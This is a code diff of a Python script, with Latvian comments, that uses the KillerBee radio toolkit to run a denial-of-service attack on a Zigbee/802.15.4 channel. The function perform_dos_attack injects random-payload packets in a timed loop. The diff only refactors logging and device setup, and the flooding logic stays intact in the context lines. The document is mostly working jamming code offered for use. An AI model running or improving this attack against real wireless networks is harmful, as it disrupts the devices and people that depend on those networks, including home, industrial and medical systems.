@@ -1,7 +1,8 @@
 import logging
 import random
 import time
-from killerbee import KillerBee
+from radio import open_killerbee
+from log_queue import LazyHex, PacketLog
 
 # Žurnāla konfigurācija
 logging.basicConfig(level=logging.INFO, format="%(asctime)s - %(levelname)s - %(message)s")
@@ -20,27 +21,29 @@ def generate_low_rssi_payload(size):
     payload_size = size - len(header)
     payload = bytes([random.randint(0, 255) for _ in range(payload_size)])
     packet = header + payload
-    logging.debug(f"Generated packet: {packet.hex()}")
+    logging.debug("Generated packet: %s", LazyHex(packet))
     return packet
 
 # DoS uzbrukums
 def perform_dos_attack(interface, channel, duration, packet_size, delay):
     try:
-        kb = KillerBee(device=interface)
+        kb = open_killerbee(interface)
         kb.set_channel(channel)
         logging.info(f"Initiating a DoS attack on channel {channel} via interface {interface}.")
 
         start_time = time.time()
         packets_sent = 0
+        sent_log = PacketLog(__name__, "DoS paketes nosūtītas")  # Kopsavilkums, nevis ieraksts katrai paketei
 
         while time.time() - start_time < duration:
             payload = generate_low_rssi_payload(packet_size)
             kb.inject(payload, channel=channel)
             packets_sent += 1
-            logging.info(f"Sended packet #{packets_sent}: {payload.hex()}")
+            sent_log("Sended packet #%d: %s", packets_sent, LazyHex(payload))
             time.sleep(delay)
 
         kb.close()
+        sent_log.close()
         logging.info(f"DoS attack is over. Amount of sended packets: {packets_sent}")
 
     except Exception as e: